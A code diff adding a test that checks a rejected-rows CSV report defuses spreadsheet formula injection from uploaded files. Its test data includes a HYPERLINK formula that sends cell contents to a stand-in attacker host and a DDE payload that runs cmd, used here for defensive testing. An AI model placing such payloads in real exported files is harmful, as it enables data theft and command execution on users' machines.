@@ -268,6 +268,18 @@ def test_the_rejected_rows_report_repeats_the_row_with_its_reasons() -> None:
     assert HEADERS[0] == "姓名"
 
 
+def test_the_rejected_rows_report_never_carries_a_formula_from_the_uploaded_file() -> None:
+    report = rejected_report([
+        {"row": 4, "errors": {"id_number": "bad"},
+         "values": {"姓名": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
+                    "身份证号": "@SUM(1+1)*cmd|' /C calc'!A0", "联系电话": "+8613800138000", "住址": "-2+3"}},
+    ])
+    cells = list(csv.reader(io.StringIO(report[3:].decode())))[1]
+    assert cells[1:5] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
+                          "'+8613800138000", "'-2+3"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+
+
 async def test_a_workbook_damaged_inside_fails_the_import_instead_of_leaving_it_running(db: Database) -> None:
     import zipfile
 
